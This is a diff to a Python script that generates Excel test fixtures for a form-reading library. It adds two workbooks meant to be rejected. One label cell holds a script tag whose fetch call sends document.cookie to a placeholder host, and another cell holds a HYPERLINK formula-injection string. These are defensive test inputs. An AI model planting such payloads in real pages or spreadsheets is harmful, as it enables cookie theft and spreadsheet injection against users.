@@ -1,7 +1,8 @@
 #!/usr/bin/python3
 """Writes test/fixtures/forms/thu-nghiem-xa.xlsx: a form written for the tests, NOT an official form; beside it, its
 second version by XlsxWriter (thu-nghiem-xa-2025-2.xlsx: two rows added, valid from 2026) and LibreOffice's re-save of
-the first (thu-nghiem-xa-libreoffice.xlsx), so form workbooks from three writers are read.
+the first (thu-nghiem-xa-libreoffice.xlsx), so form workbooks from three writers are read; and two form files that
+must be refused (hong-cong-thuc.xlsx: a formula; hong-ma-lenh.xlsx: script and formula text).
 
 It is authored with openpyxl on purpose, so the file the tests read is not written by the library that reads it,
 and it is written the way a specialist writes a form in Excel: ids and kinds left out where the printed table says
@@ -134,6 +135,30 @@ def xlsxwriter_form(path):
     wb.close()
 
 
+def hostile_forms():
+    """Form files a specialist must never be able to load, as openpyxl writes them: a label that is a formula (no
+    saved result, as openpyxl leaves it), and a label with script and a reason with formula text."""
+    wb = Workbook()
+    wb.remove(wb.active)
+    sheet(wb, "Thông tin", FACTS[0], FACTS[1:], [22, 80])
+    ws = sheet(wb, "Chỉ tiêu", INDICATOR_HEADER, INDICATORS, [6, 60, 24, 8, 10, 14, 8, 26])
+    ws["B4"] = '=CONCATENATE("Số nhiệm vụ ","trong kế hoạch của xã")'
+    sheet(wb, "Quan hệ", RELATION_HEADER, RELATIONS, [24, 28, 12, 18, 10, 10, 18, 60, 50])
+    wb.properties.created = wb.properties.modified = datetime.datetime(2025, 7, 1)
+    wb.save(os.path.join(FORMS, "hong-cong-thuc.xlsx"))
+    wb = Workbook()
+    wb.remove(wb.active)
+    sheet(wb, "Thông tin", FACTS[0], FACTS[1:], [22, 80])
+    ws = sheet(wb, "Chỉ tiêu", INDICATOR_HEADER, INDICATORS, [6, 60, 24, 8, 10, 14, 8, 26])
+    ws["B4"] = 'Số nhiệm vụ <script>fetch("https://x.invalid/?c="+document.cookie)</script>'
+    rel = sheet(wb, "Quan hệ", RELATION_HEADER, RELATIONS, [24, 28, 12, 18, 10, 10, 18, 60, 50])
+    # Text that reads as a formula, kept as text (a string cell, not a formula).
+    rel["H2"] = '=HYPERLINK("https://x.invalid","Bấm vào đây")'
+    rel["H2"].data_type = "s"
+    wb.properties.created = wb.properties.modified = datetime.datetime(2025, 7, 1)
+    wb.save(os.path.join(FORMS, "hong-ma-lenh.xlsx"))
+
+
 def main():
     wb = Workbook()
     wb.remove(wb.active)
@@ -148,6 +173,7 @@ def main():
     wb.save(OUT)
     xlsxwriter_form(OUT_V2)
     libreoffice_copy(OUT, OUT_LIBREOFFICE)
+    hostile_forms()
     for path in (OUT, OUT_V2, OUT_LIBREOFFICE):
         print(os.path.relpath(path))
 
